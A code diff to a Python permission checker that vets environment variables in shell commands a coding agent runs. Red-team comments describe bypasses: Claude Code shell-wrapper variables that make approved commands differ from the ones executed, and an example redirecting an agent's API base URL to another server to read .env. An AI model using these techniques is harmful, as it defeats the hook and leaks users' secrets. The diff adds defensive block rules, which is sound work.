@@ -10,6 +10,7 @@ from __future__ import annotations
 from collections.abc import Collection, Sequence
 
 from permissions.commands.rebase_todo import TODO_WRITTEN, rewrites_the_todo
+from permissions.commands.script_binds import bound_to_loopback
 
 __all__ = [
     "AGENT_SETTINGS_VARS",
@@ -234,6 +235,12 @@ CODE_VARS = frozenset(
         "PSQLRC",
         "JULIA_DEPOT_PATH",
         "NODE_REPL_EXTERNAL_MODULE",
+        # red team (session 29): what a nested Claude Code wraps every command it runs in -- a file sourced
+        # before each, the shell running them, a prefix program handed each command line (`PREFIX COMMAND`):
+        # the commands its hook approves are not the ones that run
+        "CLAUDE_ENV_FILE",
+        "CLAUDE_CODE_SHELL",
+        "CLAUDE_CODE_SHELL_PREFIX",
     }
 )
 # [beyond] R3.7, red team: the value points a coding agent -- or Brabo's own hook, which reads BRABO_* (and
@@ -274,6 +281,22 @@ AGENT_SETTINGS_VARS = frozenset(
     }
 )
 _BRABO_PREFIXES = ("BRABO_", "GEMINI_CLI_BRABO_")
+# red team (session 29), SPEC §5: the server a coding agent sends its conversation to -- every file it reads,
+# every command's output -- moved to another (`ANTHROPIC_BASE_URL=https://x claude -p 'read .env'`). A loopback
+# address (a local proxy) stays.
+_AGENT_ENDPOINT_VARS = frozenset(
+    {
+        "ANTHROPIC_BASE_URL",
+        "ANTHROPIC_BEDROCK_BASE_URL",
+        "ANTHROPIC_VERTEX_BASE_URL",
+        "ANTHROPIC_FOUNDRY_BASE_URL",
+        "OPENAI_BASE_URL",
+        "OPENAI_API_BASE",
+        "GOOGLE_GEMINI_BASE_URL",
+        "GOOGLE_VERTEX_BASE_URL",
+        "CODE_ASSIST_ENDPOINT",
+    }
+)
 # The value decides which program a command word names (`PATH=. ls` runs ./ls): R4.9.
 PATH_VARS = frozenset({"PATH", "BASH_CMDS", "EXECIGNORE", "CDPATH"})  # CDPATH: where `cd name` goes
 # red team: the coding agents without Brabo's hook read their options from the environment too -- aider every
@@ -309,6 +332,8 @@ def _assignment(name: str, value: str) -> tuple[list[str], str | None]:
         return [], f"the variable {name} changes the folder every later ${name} names"
     if name in AGENT_SETTINGS_VARS or name.startswith(_BRABO_PREFIXES):
         return [], f"the variable {name} points a coding agent or Brabo's hook at settings no rule has read"
+    if name in _AGENT_ENDPOINT_VARS and not bound_to_loopback(value):
+        return [], f"the variable {name} sends a coding agent's conversation to a server no rule has read"
     if name[: len(_NPM_CONFIG)].lower() == _NPM_CONFIG:
         return [], f"the variable {name} changes how npm runs scripts, which no rule can read"
     if name in _BUILD_NAMES or "$" in value or name[:6] == "CMAKE_":
@@ -413,6 +438,7 @@ def _special(name: str) -> bool:
         or name in PATH_VARS
         or name in _PWD_VARS
         or name in AGENT_SETTINGS_VARS
+        or name in _AGENT_ENDPOINT_VARS
         or name.startswith(_BRABO_PREFIXES)
         or name[: len(_NPM_CONFIG)].lower() == _NPM_CONFIG
         or name.startswith(("GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_", "BASH_FUNC_"))
